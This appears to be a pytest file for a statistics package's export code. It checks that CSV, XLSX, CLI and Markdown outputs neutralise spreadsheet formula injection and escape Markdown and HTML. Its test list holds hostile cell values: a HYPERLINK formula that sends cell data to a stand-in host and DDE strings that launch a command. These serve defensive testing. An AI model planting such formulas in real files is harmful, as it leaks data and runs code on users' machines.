"""Spreadsheet (CSV/XLSX) and Markdown safety of every output format, with hostile text."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest

from warstats import export as export_mod
from warstats.cell_safety import FORMULA_START, markdown_text, neutralise_frame
from warstats.datasets.load import load

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_prefixed_with_a_quote(text):
    frame = pd.DataFrame({"label": [text], "value": [-5.0]})
    out = neutralise_frame(frame)
    assert out.loc[0, "label"] == "'" + text
    assert out.loc[0, "value"] == -5.0  # a number stays a number


def test_safe_text_and_numbers_untouched():
    frame = pd.DataFrame({"a": ["Ukraine", "'=already quoted", "a=b"], "n": [-1, 2, -3]})
    pd.testing.assert_frame_equal(neutralise_frame(frame), frame)


@pytest.fixture
def hostile_population(monkeypatch):
    frame = load("population").head(len(HOSTILE)).copy()
    frame["country_iso3"] = HOSTILE
    frame.loc[0, "value"] = -5.0
    monkeypatch.setattr(export_mod, "load", lambda name: frame)
    return frame


def _assert_csv_safe(text: str) -> None:
    table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    cells = table["country_iso3"].tolist()
    assert cells == ["'" + h for h in HOSTILE]
    assert table.loc[0, "value"] in ("-5.0", "-5")  # numeric cell not prefixed


def test_export_csv_neutralises(tmp_path, hostile_population):
    path = export_mod.export("population", "csv", tmp_path)
    _assert_csv_safe(path.read_bytes().decode("utf-8"))


def test_export_datapackage_csv_neutralises(tmp_path, hostile_population):
    export_mod.export("population", "datapackage", tmp_path)
    _assert_csv_safe((tmp_path / "population.csv").read_bytes().decode("utf-8"))
    assert json.loads((tmp_path / "datapackage.json").read_text())["resources"]


def test_export_xlsx_has_no_formula_cells(tmp_path, hostile_population):
    from openpyxl import load_workbook

    path = export_mod.export("population", "xlsx", tmp_path)
    sheet = load_workbook(path)["data"]
    header = [c.value for c in sheet[1]]
    col = header.index("country_iso3") + 1
    value_col = header.index("value") + 1
    cells = [sheet.cell(row=r, column=col) for r in range(2, 2 + len(HOSTILE))]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula ("f")
    # (XML stores a carriage return as a line feed: that is the format, not warstats)
    assert [c.value for c in cells] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert sheet.cell(row=2, column=value_col).value == -5


def test_export_json_and_parquet_keep_text_exactly(tmp_path, hostile_population):
    path = export_mod.export("population", "json", tmp_path)
    assert [r["country_iso3"] for r in json.loads(path.read_text())] == HOSTILE


def test_report_table_csv_and_markdown(hostile_population):
    from warstats.tables.sourced import sourced_table

    frame = pd.DataFrame({"name": [*HOSTILE, "a|b", "<script>x</script>", "[link](http://x)",
                                   "two\nlines", "`code`"],
                          "n": range(11), "source_id": "wb_wdi_population"})
    table = sourced_table(frame[["name", "n"]], frame, "Title | <b>x</b>")
    csv = pd.read_csv(io.StringIO(table.to_csv()), dtype=str, keep_default_na=False)
    assert not csv["name"].str.startswith(FORMULA_START).any()
    md = table.to_markdown()
    rows = [ln for ln in md.splitlines() if ln.startswith("|")]
    assert len(rows) == 2 + 11  # header, rule, one line per row: no newline broke a row
    for line in rows:  # every row has exactly the table's 3 unescaped pipes... per cell
        assert line.replace("\\|", "").count("|") == 3
    assert "<script" not in md and "<b>" not in md and "](" not in md.replace("\\](", "")


def test_markdown_text_escapes():
    assert markdown_text("a|b") == "a\\|b"
    assert markdown_text("<img src=x>") == "&lt;img src=x&gt;"
    assert markdown_text("[x](y)") == "\\[x\\](y)"
    assert markdown_text("1\r\n2\n3") == "1<br>2<br>3"


def test_cli_csv_output_neutralises(capsys):
    from warstats.cli import _print_frame

    _print_frame(pd.DataFrame({"claim": HOSTILE, "n": [-1] * len(HOSTILE)}), "csv")
    out = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert out["claim"].tolist() == ["'" + h for h in HOSTILE]
    assert out["n"].tolist() == ["-1"] * len(HOSTILE)


def test_rejects_report_neutralises(tmp_path, monkeypatch):
    from warstats.datasets import build as build_mod
    from warstats.datasets.registry import get_spec
    from warstats.readers.common import ReaderOutput, Rejects

    def builder(raw_dir: Path) -> ReaderOutput:
        rejects = Rejects()
        rejects.add(raw_dir / "x.csv", 7, "value", "=cmd|' /C calc'!A0", "some-rule",
                    "set aside", tolerated=True)
        frame = pd.DataFrame({"break_id": ["b"], "dataset": ["population"],
                              "date": pd.to_datetime(["2022-01-01"]), "country_iso3": ["UKR"],
                              "measure": ["population"], "kind": ["annotation"],
                              "description": ["d"], "documented_at": ["u"],
                              "source_id": ["wb_wdi_population"], "published": pd.NaT,
                              "is_minimum": [False]})
        return ReaderOutput(frame, [], rejects)

    spec = get_spec("series_breaks")
    monkeypatch.setattr(type(spec), "build_function", lambda self: builder)
    build_mod.build_one(spec, tmp_path, tmp_path / "out")
    report = pd.read_csv(tmp_path / "out" / "rejects" / "series_breaks.csv", dtype=str)
    assert report.loc[0, "value"] == "'=cmd|' /C calc'!A0"


def test_curated_tables_hold_no_formula_leading_text():
    """data/*.csv are not neutralised (exact load round-trip); none needs it today."""
    from warstats._paths import data_dir
    from warstats.datasets.registry import registry

    for spec in registry().values():
        meta = json.loads((data_dir() / f"{spec.name}.meta.json").read_text())
        table = pd.read_csv(data_dir() / spec.file_name, dtype=str, keep_default_na=False)
        for col, info in meta["columns"].items():
            if info["dtype"] == "str":
                bad = table[col][table[col].str.startswith(FORMULA_START)]
                assert bad.empty, f"{spec.name}.{col}: {bad.unique()[:3]}"
